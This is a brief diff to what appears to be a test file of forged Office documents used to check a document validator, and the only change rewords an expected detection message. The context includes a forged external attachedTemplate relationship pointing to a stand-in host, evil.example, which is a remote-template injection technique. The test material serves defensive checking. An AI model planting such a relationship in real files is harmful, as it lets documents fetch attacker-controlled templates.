@@ -124,7 +124,7 @@ FORGERIES: dict[str, tuple[Callable[[str, bytes], bytes | None], str]] = {
             '<Relationship Id="rId77" Type="http://x/attachedTemplate" TargetMode="External" '
             'Target="http://evil.example/t.dotm"/></Relationships>',
         ),
-        "it leads to a attachedTemplate: http://evil.example",
+        "it has a relation of the kind attachedTemplate, to http://evil.example",
     ),
     "a head taken out": (
         lambda name, data: data.replace(b"w:headerReference", b"w:bookmarkStart")
